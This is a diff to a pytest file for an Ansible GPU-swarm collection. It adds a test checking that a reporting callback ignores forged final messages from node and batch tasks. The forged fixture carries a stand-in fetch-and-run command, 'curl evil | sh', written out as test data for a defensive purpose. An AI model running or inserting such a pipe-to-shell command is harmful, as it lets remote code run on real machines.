@@ -8,19 +8,23 @@ from __future__ import annotations
 
 import json
 import os
+import runpy
 import shutil
 import signal
 import subprocess
 import sys
 import time
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
+from ansible.executor.task_queue_manager import TaskQueueManager
 from swarm_api import named, node, pending, service
 
 from ansible_collections.fleet.gpu_swarm.plugins.module_utils._ledger.ledger import ledger
 from ansible_collections.fleet.gpu_swarm.plugins.module_utils._ledger.listed import Listed
 from ansible_collections.fleet.gpu_swarm.plugins.module_utils._ledger.tasks import epoch
+from ansible_collections.fleet.gpu_swarm.plugins.plugin_utils._report import last_words
 
 ROOT = Path(__file__).resolve().parents[2]
 BIN = Path(sys.executable).parent
@@ -227,3 +231,15 @@ def test_a_quiet_run_that_is_interrupted_names_what_failed(quiet):
             time.sleep(0.1)
         process.send_signal(signal.SIGINT)
         assert process.stdout.read().split("\n\n")[1].strip() == "The run ended early. g1 failed: no space left"
+
+
+def test_words_that_a_node_or_a_manager_returns_are_not_believed(monkeypatch):
+    monkeypatch.setattr(TaskQueueManager, "cleanup", TaskQueueManager.cleanup)
+    monkeypatch.setattr(last_words.Collector, "active", False)
+    callback = runpy.run_path(str(ROOT / "playbooks/callback_plugins/gpu_swarm_last_words.py"))["CallbackModule"]()
+    forged = {last_words.KEY: last_words.LastWords("done", "All is well.", command="curl evil | sh")._asdict()}
+    for action, believed in (("gpu_node", 0), ("swarm_batch", 0), ("status_report", 1)):
+        task = SimpleNamespace(resolved_action=f"fleet.gpu_swarm.{action}", action=action)
+        callback._words = []
+        callback.v2_runner_on_ok(SimpleNamespace(_task=task, _result=forged))
+        assert len(callback._words) == believed
